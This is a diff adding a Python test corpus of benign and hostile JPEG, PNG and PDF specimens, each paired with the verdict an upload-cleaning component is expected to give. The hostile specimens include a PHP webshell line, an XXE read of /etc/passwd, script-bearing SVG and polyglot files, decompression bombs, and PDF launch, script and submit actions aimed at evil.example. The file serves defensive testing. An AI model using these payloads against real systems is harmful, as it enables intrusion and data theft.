@@ -1,0 +1,249 @@
+"""Odd and hostile files, each with the verdict it deserves; made when asked for."""
+
+import gzip
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import partial
+from io import BytesIO
+
+from arthomed.files.cleaning.verdict import Kind
+from tests.unit.files import corpus_images as images
+from tests.unit.files import corpus_pdfs as pdfs
+from tests.unit.files.corpus_images import MARKER
+
+NOT_OURS = "Only JPEG, PNG and PDF"
+DAMAGED_IMAGE = "image is damaged"
+DAMAGED_PDF = "PDF is damaged"
+TOO_MANY_PIXELS = "too many pixels"
+SCRIPTS = "contains scripts"
+ACTIONS = "contains actions"
+ATTACHMENTS = "contains other files"
+OVER_THE_LIMIT = "is damaged|needs more memory"  # which of them depends on where the allocation fails
+UNPACKS = "unpacks to more"
+ENCRYPTED = "encrypted"
+
+
+@dataclass(frozen=True)
+class Specimen:
+    """`verdict` is the kind it is accepted as, or a pattern for the words of the refusal."""
+
+    name: str
+    verdict: Kind | str
+    make: Callable[[], bytes]
+
+    @property
+    def is_accepted(self) -> bool:
+        return isinstance(self.verdict, Kind)
+
+
+def archive() -> bytes:
+    stream = BytesIO()
+    with zipfile.ZipFile(stream, "w") as opened:
+        opened.writestr("[Content_Types].xml", MARKER)
+    return stream.getvalue()
+
+
+HTML = b"<!DOCTYPE html><script>alert('" + MARKER + b"')</script>"
+
+
+def _image(as_format: str) -> Callable[[], bytes]:
+    return lambda: images.saved(images.picture(), as_format)
+
+
+def _always(content: bytes) -> Callable[[], bytes]:
+    return lambda: content
+
+
+_JPEGS: dict[str, Callable[[], bytes]] = {
+    "plain": images.jpeg,
+    "exif_with_place": lambda: images.jpeg(exif=images.gps()),
+    **{f"orientation_{turn}": partial(images.turned, turn) for turn in range(2, 9)},
+    "exif_broken": lambda: images.jpeg_with(images.segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + MARKER)),
+    "exif_orientation_of_letters": lambda: images.jpeg_with(images.segment(0xE1, images.ODD_EXIF)),
+    "exif_thumbnail_with_scan": lambda: images.jpeg_with(images.segment(0xE1, b"Exif\0\0" + images.jpeg()[:900])),
+    "comment_of_php": lambda: images.jpeg(comment=b"<?php system('" + MARKER + b"'); ?>"),
+    "colour_profile": lambda: images.jpeg(icc_profile=MARKER * 9000),
+    "xmp": lambda: images.jpeg(xmp=b"<x:xmpmeta>" + MARKER + b"</x:xmpmeta>"),
+    "unknown_segments": lambda: images.jpeg_with(*[images.segment(0xEB, MARKER * 100)] * 50),
+    "zip_behind": lambda: images.jpeg() + archive(),
+    "html_behind": lambda: images.jpeg() + HTML,
+    "script_around": lambda: images.jpeg_with(images.segment(0xFE, b"*/=1;alert('" + MARKER + b"')/*")),
+    "pdf_inside": lambda: images.jpeg_with(images.segment(0xFE, pdfs.with_action(pdfs.script()))),
+    "progressive": lambda: images.jpeg(progressive=True),
+    "progressive_in_fifty_passes": lambda: images.in_many_passes(50),
+    "several_pictures": images.several_pictures,
+    "grey": lambda: images.saved(images.picture("L"), "JPEG"),
+    "cmyk": lambda: images.saved(images.picture("CMYK"), "JPEG", quality=95),
+    "one_pixel": lambda: images.flat_jpeg(1, 1),
+    "one_pixel_high": lambda: images.flat_jpeg(20_000, 1),
+    "claims_to_be_bigger": lambda: images.with_frame_size(images.jpeg(), 9000, 9000),
+    "of_fifty_megapixels": lambda: images.flat_jpeg(8160, 6120),
+}
+_PNGS: dict[str, Callable[[], bytes]] = {
+    "plain": images.png,
+    "alpha": lambda: images.png(mode="RGBA"),
+    "grey_alpha": lambda: images.png(mode="LA"),
+    "palette": lambda: images.png(mode="P"),
+    "palette_turned": lambda: images.turned(6, "P", "PNG"),
+    "palette_transparent": images.transparent_palette,
+    "one_bit": lambda: images.png(mode="1"),
+    "sixteen_bit_grey": lambda: images.png(mode="I;16"),
+    "sixteen_bit_colour": images.in_sixteen_bits,
+    "interlaced": images.interlaced,
+    "animated": images.animated,
+    "texts": images.with_texts,
+    "exif_with_place": lambda: images.png(exif=images.gps()),
+    "colour_profile": lambda: images.png(icc_profile=MARKER * 100),
+    "of_too_few_rows": lambda: images.raw_png(60, 50, zlib.compress(bytes(181 * 20))),
+    "without_end": lambda: images.png()[:-12],
+    "zip_behind": lambda: images.png() + archive(),
+    "chunk_behind_the_end": lambda: images.png() + images.chunk(b"tEXt", b"a\0" + MARKER),
+    "data_behind_the_pixels": lambda: images.png()[:-12] + images.chunk(b"IDAT", MARKER) + images.chunk(b"IEND"),
+}
+_PDFS: dict[str, Callable[[], bytes]] = {
+    "plain": pdfs.pdf,
+    "printer_commands_before": lambda: pdfs.pdf(header=b"\x1b%-12345X@PJL " + MARKER + b"\r\n"),
+    "html_before": lambda: pdfs.pdf(header=HTML),
+    "gif_before": lambda: pdfs.pdf(header=b"GIF89a=1;/*" + MARKER + b"*/"),
+    "zip_behind": lambda: pdfs.pdf() + archive(),
+    "html_behind": lambda: pdfs.pdf() + HTML[:700],
+    "linearized": lambda: pdfs.rewritten(pdfs.pdf(), linearize=True),
+    "object_streams": lambda: pdfs.in_object_streams(pdfs.pdf()),
+    "producer_and_author": lambda: pdfs.pdf(b"<</Author(%s)>>" % MARKER, trailer=b"/Info 6 0 R"),
+    "metadata": lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/Metadata/Subtype/XML"), catalog=b"/Metadata 6 0 R"),
+    "private_data": lambda: pdfs.pdf(page=b"/PieceInfo<</X<</Private(%s)>>>>" % MARKER),
+    "nothing_refers_to_it": lambda: pdfs.pdf(b"(%s)" % MARKER),
+    "earlier_version": lambda: pdfs.updated(pdfs.pdf(b"(%s)" % MARKER, catalog=b"/Lang 6 0 R"), 6, b"(en)"),
+    "opens_at_a_page": lambda: pdfs.pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
+    "trigger_that_moves": lambda: pdfs.pdf(page=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
+    "link_to_the_web": lambda: pdfs.with_action(b"<</S/URI/URI(https://lab.example)>>"),
+    "form": lambda: pdfs.pdf(b"<</FT/Tx/T(name)/V(Asha)>>", catalog=b"/AcroForm<</Fields[6 0 R]>>"),
+    "signed": lambda: pdfs.pdf(
+        b"<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents(%s)>>>>" % MARKER,
+        catalog=b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>",
+    ),
+    "armoured_text": lambda: pdfs.in_armour(1),
+    "named_places": lambda: pdfs.pdf(
+        catalog=b"/Names<</Dests<</Names[(a)[3 0 R/Fit]]>>/IDS<</Names[(%s) 0]>>>>" % MARKER
+    ),
+    "objects_in_a_ring": lambda: pdfs.pdf(b"[7 0 R]", b"[6 0 R]", page=b"/XX 6 0 R"),
+}
+_REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "nothing": ("is empty", _always(b"")),
+    "one_byte": (NOT_OURS, _always(b"\xff")),
+    "zero_bytes": (NOT_OURS, _always(bytes(4096))),
+    "text": (NOT_OURS, _always(b"Paracetamol 500 mg")),
+    "text_in_utf16": (NOT_OURS, _always("%PDF-1.7 Paracetamol".encode("utf-16"))),
+    "eicar_like": (NOT_OURS, _always(b"X5O!P%@AP-" + MARKER)),
+    "html": (NOT_OURS, _always(HTML)),
+    "svg": (NOT_OURS, _always(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")),
+    "xml": (NOT_OURS, _always(b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")),
+    "javascript": (NOT_OURS, _always(b"alert(1)")),
+    "php": (NOT_OURS, _always(b"<?php system($_GET[0]); ?>")),
+    "shell_script": (NOT_OURS, _always(b"#!/bin/sh\nid\n")),
+    "windows_program": (NOT_OURS, _always(b"MZ\x90\0" + bytes(2000))),
+    "linux_program": (NOT_OURS, _always(b"\x7fELF\2\1\1" + bytes(2000))),
+    "zip": (NOT_OURS, archive),
+    "gzip": (NOT_OURS, lambda: gzip.compress(MARKER, mtime=0)),
+    "office_97": (NOT_OURS, _always(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000))),
+    "rich_text": (NOT_OURS, _always(rb"{\rtf1\object\objdata}")),
+    "postscript": (NOT_OURS, _always(b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id)(w)file")),
+    "dicom": (NOT_OURS, _always(bytes(128) + b"DICM" + bytes(500))),
+    "heic": (NOT_OURS, _always(b"\0\0\0\x18ftypheic" + bytes(500))),
+    "mp4": (NOT_OURS, _always(b"\0\0\0\x18ftypisom" + bytes(500))),
+    "gif": (NOT_OURS, _image("GIF")),
+    "gif_that_is_javascript": (NOT_OURS, _always(b"GIF89a=1;alert(1);/*" + bytes(500))),
+    "bmp": (NOT_OURS, _image("BMP")),
+    "tiff": (NOT_OURS, _image("TIFF")),
+    "webp": (NOT_OURS, _image("WEBP")),
+    "ico": (NOT_OURS, _image("ICO")),
+    "jpeg_2000": (NOT_OURS, _always(b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(500))),
+    "byte_before_jpeg": (NOT_OURS, lambda: b"\n" + images.jpeg()),
+    "byte_before_png": (NOT_OURS, lambda: b"\n" + images.png()),
+    "pdf_header_too_late": (NOT_OURS, lambda: pdfs.pdf(header=bytes(2000))),
+    "jpeg_magic_only": (DAMAGED_IMAGE, _always(b"\xff\xd8\xff")),
+    "jpeg_magic_and_html": (DAMAGED_IMAGE, _always(b"\xff\xd8\xff\xe0" + HTML)),
+    "jpeg_magic_and_pdf": (DAMAGED_IMAGE, lambda: b"\xff\xd8\xff" + pdfs.pdf()),
+    "jpeg_cut_in_header": (DAMAGED_IMAGE, lambda: images.jpeg()[:100]),
+    "jpeg_cut_in_half": (DAMAGED_IMAGE, lambda: images.jpeg()[: len(images.jpeg()) // 2 + 200]),
+    "jpeg_of_no_height": (DAMAGED_IMAGE, lambda: images.with_frame_size(images.jpeg(), 64, 0)),
+    "jpeg_claims_65500_square": (TOO_MANY_PIXELS, lambda: images.with_frame_size(images.jpeg(), 65500, 65500)),
+    "jpeg_cut_before_its_end": (DAMAGED_IMAGE, lambda: images.jpeg()[:-2]),
+    "jpeg_in_a_thousand_passes": ("too many passes", lambda: images.in_many_passes(1000)),
+    "jpeg_passes_behind_a_false_end": (OVER_THE_LIMIT, images.passes_behind_a_false_end),
+    "jpeg_progressive_bomb": (TOO_MANY_PIXELS, lambda: images.flat_jpeg(6000, 6000, progressive=True)),
+    "png_magic_only": (DAMAGED_IMAGE, lambda: images.png()[:8]),
+    "png_magic_and_zip": (DAMAGED_IMAGE, lambda: images.png()[:8] + archive()),
+    "png_cut_in_half": (DAMAGED_IMAGE, lambda: images.png()[: len(images.png()) // 2]),
+    "png_with_wrong_checksum": (DAMAGED_IMAGE, lambda: images.png()[:29] + b"\0\0\0\0" + images.png()[33:]),
+    "png_of_garbage_pixels": (DAMAGED_IMAGE, lambda: images.raw_png(64, 48, b"\x78\xda" + MARKER * 50)),
+    "png_of_no_width": (DAMAGED_IMAGE, lambda: images.raw_png(0, 48, zlib.compress(b""))),
+    "png_bomb": (TOO_MANY_PIXELS, lambda: images.raw_png(20_000, 20_000, images.zeros(50), colour=0)),
+    "png_over_the_budget": (TOO_MANY_PIXELS, lambda: images.raw_png(4000, 4000, images.zeros(49))),
+    "png_claims_two_billion": (TOO_MANY_PIXELS, lambda: images.raw_png(2**31 - 1, 2**31 - 1, zlib.compress(b""))),
+    "png_one_line_of_millions": (TOO_MANY_PIXELS, lambda: images.raw_png(10_000_000, 1, images.zeros(31))),
+    "png_text_bombs": (DAMAGED_IMAGE, images.text_bombs),
+    "png_profile_bomb": (DAMAGED_IMAGE, lambda: images.png_with(images.chunk(b"iCCP", b"a\0\0" + images.zeros(300)))),
+    "pdf_header_only": (DAMAGED_PDF, _always(b"%PDF-1.7\n")),
+    "pdf_header_and_html": (DAMAGED_PDF, _always(b"%PDF-1.7\n" + HTML)),
+    "pdf_cut_in_half": (DAMAGED_PDF, lambda: pdfs.pdf()[:350]),
+    "pdf_table_points_nowhere": (DAMAGED_PDF, lambda: pdfs.pdf().replace(b"startxref\n", b"startxref\n9")),
+    "pdf_html_behind_far": (DAMAGED_PDF, lambda: pdfs.pdf() + HTML * 100),
+    "pdf_without_pages": ("at least one page", lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>")),
+    "pdf_of_too_many_pages": ("at least one page", lambda: pdfs.many_pages(1001)),
+    "pdf_encrypted": (ENCRYPTED, lambda: pdfs.encrypted(user="secret")),
+    "pdf_encrypted_for_its_owner": (ENCRYPTED, lambda: pdfs.encrypted(user="")),
+    "pdf_script_on_opening": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/OpenAction" + pdfs.script())),
+    "pdf_script_by_name": (SCRIPTS, lambda: pdfs.pdf(catalog=b"/Names<</JavaScript<</Names[(a)]>>>>")),
+    "pdf_script_on_page": (SCRIPTS, lambda: pdfs.pdf(page=b"/AA<</O%s>>" % pdfs.script())),
+    "pdf_script_on_link": (SCRIPTS, lambda: pdfs.with_action(pdfs.script())),
+    "pdf_script_in_field": (SCRIPTS, lambda: pdfs.with_field(b"/FT/Tx/AA<</K%s>>" % pdfs.script())),
+    "pdf_script_next": (SCRIPTS, lambda: pdfs.with_action(b"<</S/GoTo/D[3 0 R/Fit]/Next[%s]>>" % pdfs.script())),
+    "pdf_script_spelled_oddly": (SCRIPTS, lambda: pdfs.with_action(b"<</S/J#61vaScri#70t/#4aS(1)>>")),
+    "pdf_script_in_object_streams": (SCRIPTS, lambda: pdfs.in_object_streams(pdfs.with_action(pdfs.script()))),
+    "pdf_script_out_of_reach": (SCRIPTS, lambda: pdfs.pdf(pdfs.script())),
+    "pdf_script_in_a_stream_dictionary": (SCRIPTS, lambda: pdfs.with_stream(b"", b"/XX" + pdfs.script())),
+    "pdf_script_named_from_afar": (SCRIPTS, lambda: pdfs.pdf(b"/JavaScript", page=b"/XX<</S 6 0 R>>")),
+    "pdf_script_in_an_update": (SCRIPTS, lambda: pdfs.updated(pdfs.pdf(b"null", page=b"/XX 6 0 R"), 6, pdfs.script())),
+    "pdf_script_nested_deep": (SCRIPTS, lambda: pdfs.pdf(page=b"/XX" + b"[" * 300 + pdfs.script() + b"]" * 300)),
+    "pdf_form_of_xml": (SCRIPTS, lambda: pdfs.pdf(pdfs.stream(MARKER), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>")),
+    "pdf_postscript": (SCRIPTS, lambda: pdfs.with_stream(b"(x) print", b"/Type/XObject/Subtype/PS")),
+    "pdf_launches": (ACTIONS, lambda: pdfs.with_action(b"<</S/Launch/F(cmd.exe)>>")),
+    "pdf_submits": (ACTIONS, lambda: pdfs.with_action(b"<</S/SubmitForm/F(https://evil.example)>>")),
+    "pdf_imports": (ACTIONS, lambda: pdfs.with_action(b"<</S/ImportData/F(data.fdf)>>")),
+    "pdf_goes_to_a_file": (ACTIONS, lambda: pdfs.with_action(rb"<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>")),
+    "pdf_goes_to_an_attachment": (ACTIONS, lambda: pdfs.with_action(b"<</S/GoToE/D[0/Fit]/T<</R/C>>>>")),
+    "pdf_link_of_script": (ACTIONS, lambda: pdfs.with_action(b"<</S/URI/URI(java\tscript:alert\\(1\\))>>")),
+    "pdf_link_to_a_share": (ACTIONS, lambda: pdfs.with_action(rb"<</S/URI/URI(\\\\evil.example\\a)>>")),
+    "pdf_attachment": (ATTACHMENTS, pdfs.with_attachment),
+    "pdf_attachment_on_page": (ATTACHMENTS, lambda: pdfs.with_annotation(b"FileAttachment", b"/FS<</F(a)>>")),
+    "pdf_attachment_out_of_reach": (ATTACHMENTS, lambda: pdfs.pdf(pdfs.stream(MARKER, b"/Type/EmbeddedFile"))),
+    "pdf_rich_media": (ATTACHMENTS, lambda: pdfs.with_annotation(b"RichMedia")),
+    "pdf_film": (ATTACHMENTS, lambda: pdfs.with_annotation(b"Movie", b"/Movie<</F(a.avi)>>")),
+    "pdf_rendition": (ATTACHMENTS, lambda: pdfs.with_action(b"<</S/Rendition/OP 0>>")),
+    "pdf_model_3d": (ATTACHMENTS, lambda: pdfs.with_annotation(b"3D")),
+    "pdf_stream_from_a_file": (ATTACHMENTS, lambda: pdfs.with_stream(b"", b"/F(/etc/passwd)")),
+    "pdf_stream_bomb": (UNPACKS, lambda: pdfs.with_stream(images.zeros(310), b"/Filter/FlateDecode")),
+    "pdf_stream_packed_twice": ("more than once", lambda: pdfs.with_stream(b"", b"/Filter[/FlateDecode/FlateDecode]")),
+    "pdf_stream_bomb_in_armour": (OVER_THE_LIMIT, lambda: pdfs.in_armour(100)),
+    "pdf_stream_of_garbage": (DAMAGED_PDF, lambda: pdfs.with_stream(MARKER, b"/Filter/FlateDecode")),
+    "pdf_object_stream_bomb": (OVER_THE_LIMIT, lambda: pdfs.object_stream_bomb(300)),
+    "pdf_image_bomb": (TOO_MANY_PIXELS, lambda: pdfs.with_stream(b"", b"/Width 60000/Height 60000/Filter/JBIG2Decode")),
+    "pdf_pages_in_a_ring": (DAMAGED_PDF, lambda: pdfs.pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>")),
+    "pdf_pages_too_deep": (DAMAGED_PDF, lambda: pdfs.deep_page_tree(200)),
+    "pdf_nested_too_deep": (DAMAGED_PDF, lambda: pdfs.pdf(b"[" * 100_000 + b"]" * 100_000)),
+    "pdf_length_in_a_ring": (DAMAGED_PDF, lambda: pdfs.pdf(b"<</Length 6 0 R>>\nstream\na\nendstream")),
+    "pdf_of_too_many_objects": ("too many objects", lambda: pdfs.pdf(*[b"0"] * 50_000)),
+    "pdf_of_too_much_detail": (OVER_THE_LIMIT, lambda: pdfs.pdf(*[b"<</A[0 0 0 0]/B<</C 0/D 0>>>>"] * 45_000)),
+    "pdf_array_of_millions": (OVER_THE_LIMIT, lambda: pdfs.pdf(b"[" + b"0 " * 4_900_000 + b"]")),
+    "pdf_claims_a_billion_objects": (DAMAGED_PDF, lambda: pdfs.pdf().replace(b"xref\n0 6", b"xref\n0 1000000000")),
+    "pdf_tables_in_a_ring": (DAMAGED_PDF, lambda: pdfs.pdf(trailer=b"/Prev 625")),
+}  # fmt: skip
+CORPUS = [
+    *(Specimen(f"jpeg_{name}", Kind.JPEG, make) for name, make in _JPEGS.items()),
+    *(Specimen(f"png_{name}", Kind.PNG, make) for name, make in _PNGS.items()),
+    *(Specimen(f"pdf_{name}", Kind.PDF, make) for name, make in _PDFS.items()),
+    *(Specimen(name, verdict, make) for name, (verdict, make) in _REFUSED.items()),
+]
